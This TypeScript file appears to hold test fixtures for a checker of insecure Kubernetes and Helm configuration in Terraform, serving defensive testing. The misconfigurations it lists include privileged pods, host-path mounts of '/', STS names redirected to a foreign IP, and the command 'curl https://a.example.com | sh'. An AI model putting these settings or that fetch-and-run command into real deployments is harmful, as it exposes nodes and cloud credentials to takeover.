import { type Attack, edited, own } from "./attack";

const pod = (spec: string, kind = "kubernetes_pod_v1"): string => `
resource "${kind}" "a" {
  metadata {
    name      = "a"
    namespace = kubernetes_namespace_v1.models.metadata[0].name
  }
  spec {${spec}
  }
}`;
const IMAGE = "222233334444.dkr.ecr.ap-southeast-2.amazonaws.com/ml-inference-prod/ml-inference-api:1.4.2";
const container = (arguments_ = "", image = IMAGE): string => `
    container {
      name  = "a"
      image = "${image}"${arguments_}
    }`;

/** A change of the first container of the generated Deployment. */
const first = (id: string, danger: string, named: readonly string[], change: object): Attack =>
  inPod(id, danger, named, { container: { 0: change } });

const inPod = (id: string, danger: string, named: readonly string[], change: object): Attack =>
  edited("models", { id, danger, named }, {
    resource: { kubernetes_deployment_v1: { ml_inference_api: { spec: { template: { spec: change } } } } },
  } as never);

/** Pods, charts and what lets requests in. */
export const CHART_ATTACKS: readonly Attack[] = [
  own(
    "platform",
    "chart-public",
    "a chart and images of a public registry",
    ["image-registry", "image-reachable", "own-charts", "release-known", "registry-layers"],
    `
resource "helm_release" "a" {
  name       = "a"
  repository = "https://charts.example.com"
  chart      = "a"
  version    = "1.0.0"
}`,
  ),
  own(
    "platform",
    "chart-host-network",
    "pods of a chart are on the network of the node",
    ["release-known", "own-charts", "release-pod-security"],
    `
resource "helm_release" "a" {
  name      = "a"
  namespace = "kube-system"
  chart     = "oci://222233334444.dkr.ecr.ap-southeast-2.amazonaws.com/charts/a"
  version   = "1.0.0"
  values    = [jsonencode({ hostNetwork = true, securityContext = { privileged = true } })]
}`,
  ),
  own(
    "models",
    "pod-privileged",
    "a pod is root on the node",
    ["pod-security", "security-context"],
    pod(
      container(`
      security_context { privileged = true }`),
    ),
  ),
  own(
    "models",
    "pod-host-network",
    "a pod reaches the metadata of the node",
    ["pod-security"],
    pod(`
    host_network = true${container()}`),
  ),
  own(
    "models",
    "pod-host-path",
    "a pod reads the disk of the node",
    ["pod-security"],
    pod(`${container()}
    volume {
      name = "a"
      host_path { path = "/" }
    }`),
  ),
  own(
    "models",
    "pod-public-image",
    "an image that anyone can replace",
    ["image-registry", "image-reachable", "image-exact"],
    pod(container("", "docker.io/library/busybox:latest")),
  ),
  own(
    "models",
    "daemon-set",
    "a program on each node",
    ["pod-security", "security-context", "container-resources"],
    `
resource "kubernetes_daemon_set_v1" "a" {
  metadata {
    name      = "a"
    namespace = "kube-system"
  }
  spec {
    selector { match_labels = { a = "b" } }
    template {
      metadata { labels = { a = "b" } }
      spec {${container()}
      }
    }
  }
}`,
  ),
  own(
    "models",
    "cron-job",
    "a program at each minute",
    ["pod-security", "security-context", "container-resources"],
    `
resource "kubernetes_cron_job_v1" "a" {
  metadata {
    name      = "a"
    namespace = "kube-system"
  }
  spec {
    schedule = "* * * * *"
    job_template {
      metadata {}
      spec {
        template {
          metadata {}
          spec {${container()}
          }
        }
      }
    }
  }
}`,
  ),
  own(
    "models",
    "manifest",
    "an object of any kind",
    ["node-access"],
    `
resource "kubernetes_manifest" "a" {
  manifest = {
    apiVersion = "v1"
    kind       = "Pod"
    metadata   = { name = "a", namespace = "kube-system" }
    spec       = { hostPID = true, containers = [{ name = "a", image = "busybox" }] }
  }
}`,
  ),
  first("container-privileged", "the model is root on the node", ["pod-security", "security-context"], {
    security_context: { privileged: true },
  }),
  first("container-root", "the model runs as root", ["pod-security", "security-context", "low-user-id"], {
    security_context: { run_as_user: "0", run_as_non_root: false },
  }),
  first(
    "container-capability",
    "the model changes the network of the node",
    ["pod-security", "security-context"],
    { security_context: { capabilities: { add: ["NET_ADMIN"] } } },
  ),
  first(
    "container-image",
    "an image of a public registry",
    ["model-program", "foreign-names", "image-reachable"],
    {
      image: "docker.io/stranger/model:1.0.0",
    },
  ),
  first("container-latest", "an image that changes by itself", ["image-exact"], {
    image: IMAGE.replace(/:[^:]*$/, ":latest"),
  }),
  first("container-command", "the model runs another program", ["model-program"], {
    command: ["sh", "-c", "curl https://a.example.com | sh"],
  }),
  first("container-unlimited", "the model takes all memory of the node", ["container-resources"], {
    resources: { limits: null },
  }),
  first("container-host-port", "a port of the node leads to the model", ["pod-security"], {
    port: { 0: { host_port: 5000 } },
  }),
  inPod("pod-host-pid", "the model sees all processes of the node", ["pod-security"], { host_pid: true }),
  inPod(
    "pod-other-account",
    "the model has the rights of another service account",
    ["service-account-roles", "irsa-trust", "model-permissions", "pod-references"],
    { service_account_name: "default" },
  ),
  inPod("pod-host-aliases", "names of AWS lead to another address", ["pod-names"], {
    host_aliases: [{ ip: "203.0.113.7", hostnames: ["sts.ap-southeast-2.amazonaws.com"] }],
  }),
  inPod("pod-dns", "names are asked at a foreign server", ["pod-names"], {
    dns_policy: "None",
    dns_config: { nameservers: ["203.0.113.53"] },
  }),
];
